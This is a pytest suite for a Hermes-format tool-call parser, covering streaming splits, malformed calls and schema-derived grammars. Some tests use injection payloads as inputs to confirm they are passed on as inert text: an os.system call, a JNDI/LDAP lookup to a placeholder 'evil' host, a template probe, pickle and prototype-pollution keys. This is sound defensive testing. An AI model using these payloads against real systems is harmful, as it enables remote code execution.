"""Calls are parsed as written, for every split; anything else is text."""

import json
import re
import time
from collections.abc import Sequence
from typing import ClassVar

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from quire.errors import GrammarError
from quire.frontend.chat.tool_schemas import normalized
from quire.interfaces.tool_parsing import (
    TextDelta,
    ToolCallArguments,
    ToolCallEnd,
    ToolCallStart,
    ToolEvent,
)
from quire.testing.tool_parsing import ReadCompletion, ToolParserContract, ToolSample, read_events
from quire_structured_output.outlines.call_regex import calls_regex
from quire_tool_parsers import families

ARGUMENTS = '{ "city" : "Oslo",\n  "days": [1, 2.5e3, {"a": null}] }'
TRICKY = '{"text": "}{ \\" \\\\ </tool_call> <tool_call> \\u00e9 é 👩‍👩‍👧"}'


def call(name: str, arguments: str) -> str:
    return f'<tool_call>\n{{"name": "{name}", "arguments": {arguments}}}\n</tool_call>'


class TestHermes(ToolParserContract):
    """The kit that every tool parser passes."""

    parser = families.hermes
    samples: ClassVar[Sequence[ToolSample]] = (
        ToolSample("Just text. 1 < 2, <tool> and\n\n", "Just text. 1 < 2, <tool> and\n\n"),
        ToolSample("", ""),
        ToolSample(" \n", " \n"),
        ToolSample(call("find", "{}"), "", (("find", "{}"),)),
        ToolSample(call("find", ARGUMENTS), "", (("find", ARGUMENTS),)),
        ToolSample(call("say", TRICKY), "", (("say", TRICKY),)),
        ToolSample(
            f"Let me look.\n{call('a', ARGUMENTS)}\n{call('b', TRICKY)}\n",
            "Let me look.",
            (("a", ARGUMENTS), ("b", TRICKY)),
        ),
        ToolSample(f"One {call('a', '{}')} two.", "One two.", (("a", "{}"),)),
        ToolSample(f"{call('a', '{}')}\n\nDone.\n", "Done.\n", (("a", "{}"),)),
        ToolSample(
            f'<tool_call>{{"id": [1, "x"], "arguments": {ARGUMENTS}, "name": "late"}}</tool_call>',
            "",
            (("late", ARGUMENTS),),
        ),
        ToolSample('<tool_call>{"name": "a", "arguments": {}}', "", (("a", "{}"),)),
        ToolSample(f"<tool_call> no </tool_call>{call('a', '{}')}", "<tool_call> no </tool_call>",
                   (("a", "{}"),)),
    )  # fmt: skip


def events(*pieces: str) -> list[ToolEvent]:
    parser = families.hermes()
    found = [event for piece in pieces for event in parser.feed(piece)]
    return found + parser.close()


def read(*pieces: str) -> ReadCompletion:
    return read_events(events(*pieces))


BROKEN = (
    '<tool_call>\n{"name": "find", "arguments": {"city": "Os',
    '<tool_call>{"name": "find", "arguments": {"city": Oslo}}</tool_call>',
    '<tool_call>{"name": "find", "arguments": {"city": "Oslo"]}</tool_call>',
    '<tool_call>{"name": "find", "arguments": "[]"}</tool_call>',
    '<tool_call>{"name": "find", "arguments": "Oslo"}</tool_call>',
    '<tool_call>{"name": "find", "arguments": null}</tool_call>',
    '<tool_call>{"name": "find", "arguments": {"n": 01}}</tool_call>',
    '<tool_call>{"name": "find", "arguments": {"n": "a\nb"}}</tool_call>',
    '<tool_call>{"name": "", "arguments": {}}</tool_call>',
    '<tool_call>{"name": 7, "arguments": {}}</tool_call>',
    '<tool_call>{"name": "a", "name": "b", "arguments": {}}</tool_call>',
    '<tool_call>{"name": "a", "arguments": {}, "arguments": {}}</tool_call>',
    '<tool_call>{"name": "a", "x": NaN, "arguments": {}}</tool_call>',
    '<tool_call>{"name": "find", "arguments": {"a": 1}, "arguments": {',
    '<tool_call>{"name": "a" "arguments": {}}</tool_call>',
    '<tool_call>{"name": "a"; "arguments": {}}</tool_call>',
    '<tool_call>{"name": "a", "arguments": {}; "x": 1}</tool_call>',
    '<tool_call>{"name" "a", "arguments": {}}</tool_call>',
    '<tool_call>{"name"= "a", "arguments": {}}</tool_call>',
    '<tool_call>{"name": "a", "arguments"= {}}</tool_call>',
    '<tool_call>{"name": "a", "arguments" {}}</tool_call>',
    '<tool_call>{name: "a", "arguments": {}}</tool_call>',
    '<tool_call>{"name": "a", "arguments": {},}</tool_call>',
    '<tool_call>{"name": "a", "arguments": {"x": Infinity}}</tool_call>',
    '<tool_call>{"arguments": {}}</tool_call>',
    '<tool_call>{"name": "deep", "arguments": ' + '{"a":' * 3000 + "1" + "}" * 3000 + "}",
    "<tool_call>[1]</tool_call>",
    "<tool_call>find(Oslo)</tool_call>",
    "<tool_call></tool_call>",
    "<tool_call>",
    "<tool_ca",
    "</tool_call> first",
    '<tool_call>{"name": "a", "arguments": ' + '{"a":' * 5000,
)


@pytest.mark.parametrize("text", BROKEN)
def test_an_unfinished_call_is_text(text):
    completion = read(f"Hm.\n{text}")
    assert (completion.content, completion.calls) == (f"Hm.\n{text}", [])
    assert read(*f"Hm.\n{text}") == completion


CODE = (
    "{\"x\": \"__import__('os').system('touch canary')\"}",
    '{"x": "${jndi:ldap://evil}", "y": "{{7*7}}", "__class__": {"__reduce__": "os.system"}}',
    '{"__proto__": {"a": 1}, "constructor": "eval"}',
)


@pytest.mark.parametrize("arguments", CODE)
def test_arguments_that_look_like_code_are_passed_on_as_text(arguments, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for name in ("a", "__import__('os').system('touch canary')"):
        completion = read(*call(json.dumps(name)[1:-1], arguments))
        assert completion.calls == [(name, arguments)]
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "text", ["<tool_call>__import__('os').system('touch canary')</tool_call>", "<tool_call>{1}"]
)
def test_what_is_code_and_no_call_is_text(text, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert (read(text).content, read(text).calls) == (text, [])
    assert list(tmp_path.iterdir()) == []


def test_a_call_without_arguments_has_none():
    assert read('<tool_call>{"name": "find"}</tool_call>').calls == [("find", "{}")]


def test_arguments_may_be_a_string_of_json():
    text = '<tool_call>{"name": "find", "arguments": "{\\"city\\": \\"Oslo\\"}"}</tool_call>'
    assert read(text).calls == [("find", '{"city": "Oslo"}')]


def test_a_call_behind_a_broken_one_counts():
    broken = '<tool_call>{"name": "a", "arguments": {"x":'
    completion = read(f"{broken}{call('b', '{}')}")
    assert (completion.content, completion.calls) == (broken, [("b", "{}")])


def test_the_name_is_announced_before_the_arguments_arrive():
    parser = families.hermes()
    assert parser.feed('<tool_call>\n{"name": "fin') == []
    assert parser.feed('d"') == [ToolCallStart(0, "find")]
    assert parser.feed(', "arguments": {"ci') == [ToolCallArguments(0, '{"ci')]
    assert parser.feed('ty": "</tool_') == [ToolCallArguments(0, 'ty": "</tool_')]
    assert parser.feed('call>"}') == [ToolCallArguments(0, 'call>"}')]
    assert parser.feed("}\n") == [ToolCallEnd(0)]
    assert parser.feed("</tool_call>") == []
    assert parser.close() == []


def test_arguments_before_the_name_are_held_back():
    parser = families.hermes()
    assert parser.feed('<tool_call>{"arguments": {"a": 1}, "name": "f') == []
    assert parser.feed('"}') == [
        ToolCallStart(0, "f"),
        ToolCallArguments(0, '{"a": 1}'),
        ToolCallEnd(0),
    ]


@pytest.mark.parametrize(
    ("written", "passed_on"),
    [
        ('{"text": "x\n', '{"text": "x'),  # a line break in a string
        ('{"list": [1}', '{"list": [1'),
        ('{}, "arguments": {', "{}"),
        ('{"a": x', '{"a": '),
    ],
)
def test_a_call_is_text_as_soon_as_it_is_broken(written, passed_on):
    parser = families.hermes()
    begun = '<tool_call>{"name": "f", "arguments": '
    parser.feed(begun)
    found = parser.feed(written)
    pieces = [event.piece for event in found if isinstance(event, ToolCallArguments)]
    assert "".join(pieces) == passed_on
    assert TextDelta(begun + written.rstrip("\n")) in found


@pytest.mark.parametrize("depth", [200, 201])
def test_arguments_may_be_nested_200_deep(depth):
    arguments = '{"a":' * depth + "1" + "}" * depth
    assert len(read(call("f", arguments)).calls) == (depth == 200)


@pytest.mark.parametrize("blank", [" ", "\t", "\n", "\r\n"])
def test_blanks_may_stand_between_all_parts_of_a_call(blank):
    parts = ["<tool_call>", "{", '"id"', ":", "17", ",", '"ok"', ":", "true", ",", '"name"', ":",
             '"f"', ",", '"arguments"', ":", "{}", "}", "</tool_call>"]  # fmt: skip
    completion = read(*blank.join(parts))
    assert (completion.content, completion.calls) == ("", [("f", "{}")])


def test_an_incomplete_closing_tag_is_not_text():
    for incomplete in ("<", "</tool_c", "\n</tool_call"):
        completion = read('<tool_call>{"name": "f", "arguments": {}}' + incomplete)
        assert (completion.content, completion.calls) == ("", [("f", "{}")])


def test_text_is_passed_on_at_once():
    parser = families.hermes()
    assert parser.feed("Hello <b") == [TextDelta("Hello <b")]
    assert parser.feed(" <tool") == []
    assert parser.feed("kit>") == [TextDelta(" <toolkit>")]


def test_an_escaped_name_is_read():
    assert read('<tool_call>{"name": "f\\u0069nd", "arguments": {}}').calls == [("find", "{}")]


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(st.characters(codec="utf-8"), max_size=12) | st.just("</tool_call>"),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner),
    max_leaves=8,
)  # fmt: skip
json_objects = st.dictionaries(st.text(max_size=5), json_values, max_size=4)


@st.composite
def completions(draw: st.DrawFn) -> tuple[str, list[tuple[str, str]]]:
    calls, text = [], draw(st.sampled_from(["", "Look:\n", "<think>x</think>"]))
    for arguments in draw(st.lists(json_objects, min_size=1, max_size=3)):
        name = draw(st.sampled_from(["f", "get_weather", "é-1"]))
        literal = json.dumps(
            arguments,
            ensure_ascii=draw(st.booleans()),
            indent=draw(st.sampled_from([None, 1])),
        )
        calls.append((name, literal))
        text += call(name, literal) + draw(st.sampled_from(["", "\n", "\n\n"]))
    return text, calls


@given(completions(), st.data())
@settings(max_examples=150, deadline=None)
def test_any_split_gives_the_written_arguments(completion, data):
    text, calls = completion
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    pieces = [text[i:j] for i, j in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    found = read(*pieces)
    assert found.calls == calls
    assert found == read(text)


fragments = st.sampled_from(
    ["<tool_call>", "</tool_call>", '{"name": "f"', ', "arguments": ', "{}", "}", "{", '"', "\\",
     "\n", " ", "x", "<", "[", "]", "1", "é", '"a": ', ",", "null"]
)  # fmt: skip


@given(st.lists(fragments, max_size=24), st.data())
@settings(max_examples=400, deadline=None)
def test_whatever_a_model_writes_nothing_is_raised_and_no_word_lost(parts, data):
    text = "".join(parts)
    cut = data.draw(st.integers(0, len(text)))
    whole = read(text)
    assert read(text[:cut], text[cut:]) == whole == read(*text)
    if not whole.calls:
        assert whole.content == text


class TestCallGrammar:
    weather: ClassVar = {
        "name": "get_weather",
        "parameters": {
            "type": "object",
            "properties": {"city": {"type": "string"}, "days": {"type": "integer"}},
            "required": ["city"],
        },
    }
    free: ClassVar = {"name": "note", "parameters": {"type": "object"}}
    bare: ClassVar = {"name": "now"}
    odd: ClassVar = {
        "name": "odd",
        "parameters": {"type": "object", "properties": {"a": {"multipleOf": 3}}},
    }

    def matches(self, text: str, *tools: dict[str, object]) -> bool:
        calls = families.hermes.call_grammar(normalized(tools), at_least_one=True)
        assert calls is not None
        return re.fullmatch(calls_regex(calls).expression, text) is not None

    def test_calls_of_the_tools_fit(self):
        tools = (self.weather, self.free, self.bare)
        good = call("get_weather", '{"city": "Oslo", "days": 2}')
        assert self.matches(good, *tools)
        assert self.matches(f"{good}\n{call('now', '{}')}", *tools)
        assert self.matches(call("note", '{"a": {"b": 1, "c": "x"}}'), *tools)

    def test_nothing_else_fits(self):
        tools = (self.weather, self.bare)
        assert not self.matches("It rains.", *tools)
        assert not self.matches("", *tools)
        assert not self.matches(call("get_wether", '{"city": "Oslo"}'), *tools)
        assert not self.matches(call("get_weather", '{"days": 2}'), *tools)
        assert not self.matches(call("now", '{"a": 1}'), *tools)

    def test_a_schema_that_cannot_be_honoured_is_refused_with_the_tool_and_the_keyword(self):
        with pytest.raises(GrammarError, match=r"tool 'odd'.*'multipleOf' at /properties/a"):
            self.matches("", self.odd)

    def test_a_tool_takes_an_object_whatever_else_its_schema_says(self):
        for parameters in ({}, {"properties": {}}, {"description": "none"}):
            assert self.matches(call("x", '{"a": 1}'), {"name": "x", "parameters": parameters})
            assert not self.matches(call("x", "[1]"), {"name": "x", "parameters": parameters})

    def test_names_and_patterns_stay_inside_their_place(self):
        properties = {"a.b|c": {"type": "string", "pattern": "x|y"}}
        schema = {"type": "object", "properties": properties, "required": ["a.b|c"]}
        tool = {"name": "t.t", "parameters": schema}
        assert self.matches(call("t.t", '{"a.b|c": "x"}'), tool)
        for text in (
            call("tat", '{"a.b|c": "x"}'),
            call("t.t", '{"aXb|c": "x"}'),
            "y",
            '{"c": "x"}',
        ):
            assert not self.matches(text, tool)

    def test_deep_schemas_are_refused_at_once(self):
        for depth in (22, 60):
            schema = {"type": "string"}
            for _ in range(depth):
                schema = {"type": "array", "items": schema}
            tool = {"name": "x", "parameters": {"type": "object", "properties": {"a": schema}}}
            start = time.monotonic()
            with pytest.raises(GrammarError, match="tool 'x'"):
                self.matches("", tool)
            assert time.monotonic() - start < 0.5  # it was seconds, and for ever

    def test_what_fits_is_read_as_calls(self):
        text = call("get_weather", '{"city": "Oslo"}') + "\n" + call("now", "{}")
        assert self.matches(text, self.weather, self.bare)
        assert read(text).calls == [("get_weather", '{"city": "Oslo"}'), ("now", "{}")]

    def test_a_schema_made_of_others_is_passed_on_as_it_is(self):
        definitions = {"p": {"type": "object", "properties": {"a": {"type": "null"}}}}
        tool = {"name": "x", "parameters": {"$ref": "#/$defs/p", "$defs": definitions}}
        assert self.matches(call("x", '{"a": null}'), tool)
        assert not self.matches(call("x", '{"a": 1}'), tool)

    def test_names_are_written_as_they_are_read(self):
        assert self.matches(call("größe", "{}"), {"name": "größe"})

    def test_two_calls_stand_on_lines_of_their_own(self):
        one = call("now", "{}")
        assert self.matches(f"{one}\n{one}", self.bare)
        assert not self.matches(f"{one}{one}", self.bare)

    def test_calls_in_free_text_begin_with_the_tag(self):
        tools = normalized([self.weather, self.bare])
        forced = families.hermes.call_grammar(tools, at_least_one=True)
        free = families.hermes.call_grammar(tools, at_least_one=False)
        assert (forced.triggers, free.triggers) == ((), ("<tool_call>",))
        assert free.shapes == forced.shapes
        assert all(shape.pieces[0].startswith("<tool_call>") for shape in free.shapes)

    def test_without_tools_there_is_no_grammar(self):
        for at_least_one in (False, True):
            assert families.hermes.call_grammar([], at_least_one=at_least_one) is None
